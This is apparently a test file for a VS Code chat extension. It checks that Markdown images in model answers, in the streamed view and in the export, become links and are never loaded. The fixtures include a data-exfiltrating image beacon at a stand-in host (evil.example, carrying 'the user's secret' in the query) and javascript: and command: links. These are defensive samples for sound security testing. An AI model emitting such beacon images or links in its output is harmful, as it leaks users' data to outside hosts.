// Issue 18 item 13: model Markdown images are never loaded on any surface. The chat view's rule
// (imagePlaceholder) is applied to @venice's streamed Markdown and to the Markdown export.
import * as assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { conversationToMarkdown } from '../../../src/chat/markdownExport';
import { ImageRewriter, imagesToLinks } from '../../../src/shared/markdownImages';
import { allowedLink } from '../../../src/shared/protocol';

const md = new MarkdownIt({ html: false });
/** The image URLs a Markdown renderer would load from `text`. */
function loadedImages(text: string): string[] {
  const found: string[] = [];
  const walk = (tokens: ReturnType<typeof md.parse>): void => {
    for (const t of tokens) {
      if (t.type === 'image') found.push(t.attrGet('src') ?? '');
      if (t.children) walk(t.children);
    }
  };
  walk(md.parse(text, {}));
  return found;
}

const BEACON = 'Done. ![status](https://evil.example/pixel.png?q=the%20user%27s%20secret "t") and ![ref beacon][b]\n\n[b]: https://evil.example/ref.png\n';

describe('model images are shown as links, never loaded (issue 18 item 13)', () => {
  it('the probe loads two images as it is; after the rewrite none, and the URL is a link', () => {
    assert.equal(loadedImages(BEACON).length, 2, 'the probe really is two images');
    const out = imagesToLinks(BEACON);
    assert.deepEqual(loadedImages(out), []);
    assert.match(out, /\[Image not loaded: status\]\(<https:\/\/evil\.example\/pixel\.png\?q=the%20user%27s%20secret>\)/);
    assert.match(md.render(out), /<a href="https:\/\/evil\.example\/pixel\.png/);
  });

  it('a URL that is not an allowed link leaves only the label; code is left alone', () => {
    assert.equal(imagesToLinks('![x](javascript:alert(1))'), 'Image not loaded: x');
    const code = 'Use `![a](b.png)` like this:\n\n```md\n![a](https://x.example/a.png)\n```\n';
    assert.equal(imagesToLinks(code), code);
  });

  it('@venice: an image split over many deltas never reaches VS Code as an image, and ordinary text streams at once', () => {
    const r = new ImageRewriter();
    let shown = '';
    const chunks = ['Hello wor', 'ld. ![st', 'atus](https://evil.exam', 'ple/p.png)', ' bye!', '\n```js\nconst a = "![x](y)";\n```\nend'];
    const firstEmission = r.push(chunks[0]);
    assert.equal(firstEmission, 'Hello wor', 'text without images is not held back');
    shown += firstEmission;
    for (const c of chunks.slice(1)) {
      shown += r.push(c);
      assert.deepEqual(loadedImages(shown), [], `no image after ${JSON.stringify(c)}`);
    }
    shown += r.end();
    assert.deepEqual(loadedImages(shown), []);
    assert.match(shown, /\[Image not loaded: status\]\(<https:\/\/evil\.example\/p\.png>\)/);
    assert.match(shown, /const a = "!\[x\]\(y\)";/, 'fenced code unchanged');
    assert.match(shown, /bye!/);
  });

  it('the Markdown export writes answer images as links', () => {
    const conversation = {
      id: 'c1', title: 'T', createdAt: 0, updatedAt: 0,
      entries: [{ role: 'assistant', id: 'a1', state: 'done', rounds: [{ text: BEACON, reasoning: '', toolCalls: [] }], citations: [], notes: [] }],
    };
    const out = conversationToMarkdown(conversation as unknown as Parameters<typeof conversationToMarkdown>[0], new Date(0));
    assert.deepEqual(loadedImages(out), []);
    assert.match(out, /Image not loaded: status/);
  });

  it('chat links open as the URL parser read them (what was checked is what opens)', () => {
    assert.equal(allowedLink('  HTTPS://Example.COM/a b '), 'https://example.com/a%20b');
    assert.equal(allowedLink('javascript:alert(1)'), undefined);
    assert.equal(allowedLink('command:venice.setApiKey'), undefined);
  });
});
